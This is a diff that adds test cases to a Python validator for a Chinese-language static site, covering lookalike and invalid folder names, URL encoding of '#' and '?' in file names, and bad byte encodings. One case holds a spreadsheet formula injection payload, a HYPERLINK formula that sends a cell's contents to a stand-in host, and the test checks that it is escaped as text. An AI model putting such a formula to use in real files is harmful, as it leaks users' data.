@@ -435,6 +435,47 @@ CASES: dict[str, Case] = {
         fragments=("“categories”中含有不可见的控制字符（U+2066）",),
     ),
     "bidi-mark-in-body-is-fine": Case({"content/jx/a.md": md("阿拉伯文 \u0627\u0644\u0639\u0631\u0628\u064a\u0629\u200f 引文")}, "safe", present=("阿拉伯文",)),
+    # --- output hygiene (issue 16, p16c): unit folder alphabet, reserved characters in URLs, decoding messages
+    "unit-folder-cyrillic-lookalike": Case(
+        {"content/jx/a.md": md("正文"), "content/wаiyu/_unit.toml": OTHER_UNIT, "content/wаiyu/b.md": md("乙")},
+        "error", path="content/wаiyu", line=1, fragments=("单位文件夹名“wаiyu”含有不允许的字符 “а”（U+0430）", "只能使用小写英文字母 a-z、数字 0-9"),
+    ),
+    "unit-folder-case-duplicate": Case(
+        {"content/jx/a.md": md("正文"), "content/JX/_unit.toml": OTHER_UNIT, "content/JX/b.md": md("乙")},
+        "error", path="content/JX", line=1, fragments=("单位文件夹名“JX”", "例如改为“jx”"),
+    ),
+    "unit-folder-chinese": Case(
+        {"content/jx/a.md": md("正文"), "content/外语/_unit.toml": OTHER_UNIT, "content/外语/b.md": md("乙")},
+        "error", path="content/外语", line=1, fragments=("“外”（U+5916）", "用于网址"),
+    ),
+    "unit-folder-hash": Case(
+        {"content/jx/a.md": md("正文"), "content/w#y/_unit.toml": OTHER_UNIT, "content/w#y/b.md": md("乙")},
+        "error", path="content/w#y", line=1, fragments=("“#”（U+0023）",),
+    ),
+    "unit-folder-leading-dash": Case(
+        {"content/jx/a.md": md("正文"), "content/-wy/_unit.toml": OTHER_UNIT, "content/-wy/b.md": md("乙")},
+        "error", path="content/-wy", line=1, fragments=("不能以“-”或“_”开头",),
+    ),
+    "unit-name-formula-is-text": Case(
+        {"content/jx/_unit.toml": 'name = \'=HYPERLINK("http://x.example/?leak="&A2,"点击")\'\nkind = "教学单位"\n', "content/jx/a.md": md("正文")},
+        "safe", present=("=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A2,&#34;点击&#34;)",), absent=("<a href=\"http://x.example",),
+    ),
+    "attachment-hash-question-name": Case(
+        {"content/jx/a/index.md": md("正文", attachments="['a#b?.pdf']"), "content/jx/a/a#b?.pdf": b"%PDF-1.4\n"},
+        "safe", path="content/jx/a/index.md", present=('href="../../jx/a/a%23b%3F.pdf"',), absent=("a#b?.pdf\"",),
+    ),
+    "body-link-hash-question-name": Case(
+        {"content/jx/a/index.md": md("见[附件](<a%23b%3F.pdf>)。"), "content/jx/a/a#b?.pdf": b"%PDF-1.4\n"},
+        "safe", path="content/jx/a/index.md", present=('href="a%23b%3F.pdf"',),
+    ),
+    "encoding-utf8-with-ff-fe-inside": Case(
+        {"content/jx/a.md": md("第一段\n\n第二段").encode().replace("第二段".encode(), b"\xff\xfe" + "第二段".encode())},
+        "error", line=BODY + 2, fragments=("不是 UTF-8 编码（含有无法识别的字节）",),
+    ),
+    "unit-toml-nul-byte": Case(
+        {"content/jx/_unit.toml": 'name = "机械工程学院党委"\nkind = "教学\x00单位"\n', "content/jx/a.md": md("正文")},
+        "error", path="content/jx/_unit.toml", line=2, fragments=("空字符", "改成了 _unit.toml"),
+    ),
 }
 
 
